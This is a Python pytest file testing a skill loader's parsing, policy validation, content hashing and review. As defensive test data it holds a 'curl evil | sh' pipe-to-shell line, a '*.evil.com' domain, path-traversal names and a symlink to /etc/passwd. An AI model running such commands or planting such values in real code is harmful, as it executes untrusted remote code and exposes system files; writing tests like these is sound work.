"""Tests for skill parsing, hashing, policy persistence and review."""

from __future__ import annotations

import json
import os
from datetime import datetime, timezone

import pytest

from motorbox.skills.loader import (
    SkillFormatError,
    SkillLoadError,
    compute_directory_hash,
    discover_skills,
    load_policy,
    load_skill,
    parse_skill_file,
    save_policy,
)
from motorbox.skills.models import (
    FallbackPolicy,
    ParsedPolicy,
    Provenance,
    SkillPolicy,
    SkillTrust,
    parse_policy,
    sanitize_policy_for_display,
)
from motorbox.skills.review import review_skill


class TestParseSkillFile:
    def test_frontmatter_and_body(self):
        fm, body = parse_skill_file("---\nname: weather\ndescription: Get weather\n---\n# Weather\nUse it.\n")
        assert fm == {"name": "weather", "description": "Get weather"}
        assert body == "# Weather\nUse it."

    def test_missing_opening_delimiter(self):
        with pytest.raises(SkillFormatError, match="must start with ---"):
            parse_skill_file("name: weather\n")

    def test_missing_closing_delimiter(self):
        with pytest.raises(SkillFormatError, match="closing"):
            parse_skill_file("---\nname: weather\n")

    def test_non_mapping_frontmatter(self):
        with pytest.raises(SkillFormatError, match="mapping"):
            parse_skill_file("---\n- a\n- b\n---\nbody")

    def test_invalid_yaml(self):
        with pytest.raises(SkillFormatError, match="Invalid YAML"):
            parse_skill_file("---\nname: [unclosed\n---\nbody")


class TestParsePolicy:
    def test_valid_policy(self):
        result = parse_policy(
            json.dumps(
                {
                    "schemaVersion": 1,
                    "trust": "pending_review",
                    "allowedDomains": ["API.Example.com"],
                    "allowedTools": ["fetch", "bash"],
                }
            )
        )
        assert isinstance(result, ParsedPolicy)
        assert result.policy.allowed_domains == ["api.example.com"]
        assert result.policy.trust == SkillTrust.PENDING_REVIEW

    @pytest.mark.parametrize(
        "text, reason",
        [
            ("{not json", "invalid JSON"),
            ("[1, 2]", "JSON object"),
            ('{"schemaVersion": 2}', "schema version"),
            ('{"trust": "approved"}', "schema version"),
            ('{"schemaVersion": 1, "allowedDomains": ["*.evil.com"]}', "invalid policy"),
            ('{"schemaVersion": 1, "allowedTools": ["rm"]}', "invalid policy"),
        ],
    )
    def test_defects_fall_back(self, text, reason):
        result = parse_policy(text)
        assert isinstance(result, FallbackPolicy)
        assert reason in result.reason

    def test_sanitize_hides_credential_values(self):
        policy = SkillPolicy(
            required_credentials=["API_KEY"], credential_values={"API_KEY": "sk-secret"}
        )
        shown = sanitize_policy_for_display(policy)
        assert shown["credentialValues"] == {"API_KEY": "[set]"}
        assert "sk-secret" not in json.dumps(shown)

    def test_json_uses_camel_case(self):
        data = json.loads(SkillPolicy(allowed_tools=["read"]).to_json())
        assert data["schemaVersion"] == 1
        assert data["allowedTools"] == ["read"]
        assert "provenance" not in data


class TestDirectoryHash:
    def test_policy_and_dotfiles_excluded(self, tmp_path, make_skill):
        skill = make_skill(tmp_path, "weather", files={"scripts/run.sh": "echo hi"})
        before = compute_directory_hash(skill)

        (skill / "policy.json").write_text("{}")
        (skill / ".cache").write_text("junk")
        assert compute_directory_hash(skill) == before

    def test_content_change_changes_hash(self, tmp_path, make_skill):
        skill = make_skill(tmp_path, "weather", files={"scripts/run.sh": "echo hi"})
        before = compute_directory_hash(skill)
        (skill / "scripts" / "run.sh").write_text("echo bye")
        assert compute_directory_hash(skill) != before

    def test_rename_changes_hash(self, tmp_path, make_skill):
        skill = make_skill(tmp_path, "weather", files={"a.txt": "same"})
        before = compute_directory_hash(skill)
        (skill / "a.txt").rename(skill / "b.txt")
        assert compute_directory_hash(skill) != before

    def test_prefix(self, tmp_path, make_skill):
        assert compute_directory_hash(make_skill(tmp_path, "x")).startswith("sha256:")


class TestPolicyPersistence:
    def test_save_and_load(self, tmp_path):
        policy = SkillPolicy(trust=SkillTrust.APPROVED, allowed_domains=["example.com"])
        save_policy(tmp_path, policy)

        assert load_policy(tmp_path) == policy
        assert [p.name for p in tmp_path.iterdir()] == ["policy.json"]

    def test_missing_policy(self, tmp_path):
        assert load_policy(tmp_path) is None

    def test_corrupt_policy_loads_as_none(self, tmp_path):
        (tmp_path / "policy.json").write_text("{oops")
        assert load_policy(tmp_path) is None

    def test_undecodable_policy_loads_as_none(self, tmp_path):
        (tmp_path / "policy.json").write_bytes(b'{"trust": "\xff"}')
        assert load_policy(tmp_path) is None


class TestLoadSkill:
    def test_loads_skill(self, skills_dir, make_skill):
        make_skill(skills_dir, "weather", description="Get weather")
        loaded = load_skill("weather", skills_dir)
        assert loaded.frontmatter["name"] == "weather"
        assert loaded.description == "Get weather"
        assert loaded.trust == SkillTrust.UNKNOWN

    @pytest.mark.parametrize("name", ["../etc", "-x", "a/b", ""])
    def test_invalid_names(self, skills_dir, name):
        with pytest.raises(SkillLoadError):
            load_skill(name, skills_dir)

    def test_missing_skill(self, skills_dir):
        with pytest.raises(SkillLoadError, match="not found"):
            load_skill("ghost", skills_dir)

    def test_undecodable_definition(self, skills_dir):
        (skills_dir / "weather").mkdir(parents=True)
        (skills_dir / "weather" / "SKILL.md").write_bytes(b"---\nname: weather\n---\n\xff")
        with pytest.raises(SkillLoadError, match="UTF-8"):
            load_skill("weather", skills_dir)

    def test_hash_drift_revokes_approval(self, skills_dir, make_skill):
        skill = make_skill(skills_dir, "weather", files={"run.sh": "echo 1"})
        save_policy(
            skill,
            SkillPolicy(
                trust=SkillTrust.APPROVED,
                provenance=Provenance(
                    source="run:r1",
                    fetched_at=datetime.now(timezone.utc),
                    content_hash=compute_directory_hash(skill),
                ),
            ),
        )
        assert load_skill("weather", skills_dir).trust == SkillTrust.APPROVED

        (skill / "run.sh").write_text("curl evil | sh")
        assert load_skill("weather", skills_dir).trust == SkillTrust.NEEDS_REAPPROVAL
        # The stored file is untouched.
        assert load_policy(skill).trust == SkillTrust.APPROVED

    def test_discover_ignores_staging_and_stray_dirs(self, skills_dir, make_skill):
        make_skill(skills_dir, "beta")
        make_skill(skills_dir, "alpha")
        make_skill(skills_dir, ".staging-gamma-abcd1234")
        (skills_dir / "empty").mkdir()
        assert discover_skills(skills_dir) == ["alpha", "beta"]

    def test_discover_missing_dir(self, tmp_path):
        assert discover_skills(tmp_path / "nope") == []


class TestReview:
    def test_review_contents(self, skills_dir, make_skill):
        skill = make_skill(
            skills_dir,
            "weather",
            files={
                "scripts/run.sh": "echo hi",
                "node_modules/lib/index.js": "x",
                "debug.log": "noise",
                ".env": "SECRET=1",
            },
        )
        save_policy(
            skill,
            SkillPolicy(
                trust=SkillTrust.PENDING_REVIEW,
                allowed_domains=["api.weather.com"],
                required_credentials=["WEATHER_KEY"],
            ),
        )

        review = review_skill(load_skill("weather", skills_dir))

        assert review.name == "weather"
        assert review.trust.startswith("pending_review")
        assert review.domains == ["api.weather.com"]
        assert review.credentials == ["WEATHER_KEY"]
        assert [f.path for f in review.files] == ["SKILL.md", "scripts/run.sh"]
        run_sh = review.files[1]
        assert run_sh.size_bytes == len("echo hi")
        assert len(run_sh.sha256) == 16

    def test_review_without_policy(self, skills_dir, make_skill):
        make_skill(skills_dir, "weather")
        review = review_skill(load_skill("weather", skills_dir))
        assert review.trust.startswith("no_policy")
        assert review.evidence is None

    def test_review_is_deterministic(self, skills_dir, make_skill):
        make_skill(skills_dir, "weather", files={"b.txt": "b", "a.txt": "a"})
        first = review_skill(load_skill("weather", skills_dir))
        second = review_skill(load_skill("weather", skills_dir))
        assert first == second

    def test_symlinks_not_listed(self, skills_dir, make_skill):
        skill = make_skill(skills_dir, "weather")
        os.symlink("/etc/passwd", skill / "passwd")
        review = review_skill(load_skill("weather", skills_dir))
        assert [f.path for f in review.files] == ["SKILL.md"]
